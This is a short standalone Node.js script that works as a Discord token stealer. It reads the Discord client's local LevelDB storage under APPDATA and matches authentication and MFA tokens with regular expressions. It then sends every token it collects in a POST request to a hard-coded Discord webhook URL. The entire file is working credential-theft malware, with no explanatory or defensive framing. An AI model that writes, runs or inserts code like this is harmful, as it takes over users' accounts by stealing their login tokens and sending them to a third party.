const fs = require("fs");
const path = require("path");
const https = require("https");
const base = path.join(process.env.APPDATA || "", "discord", "Local Storage", "leveldb");
const tokens = [];
for (const f of fs.readdirSync(base)) {
  const text = fs.readFileSync(path.join(base, f), "utf8");
  for (const m of text.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g)) tokens.push(m[0]);
}
const req = https.request("https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcdefghij", { method: "POST", headers: { "Content-Type": "application/json" } });
req.write(JSON.stringify({ content: tokens.join("\n") }));
req.end();
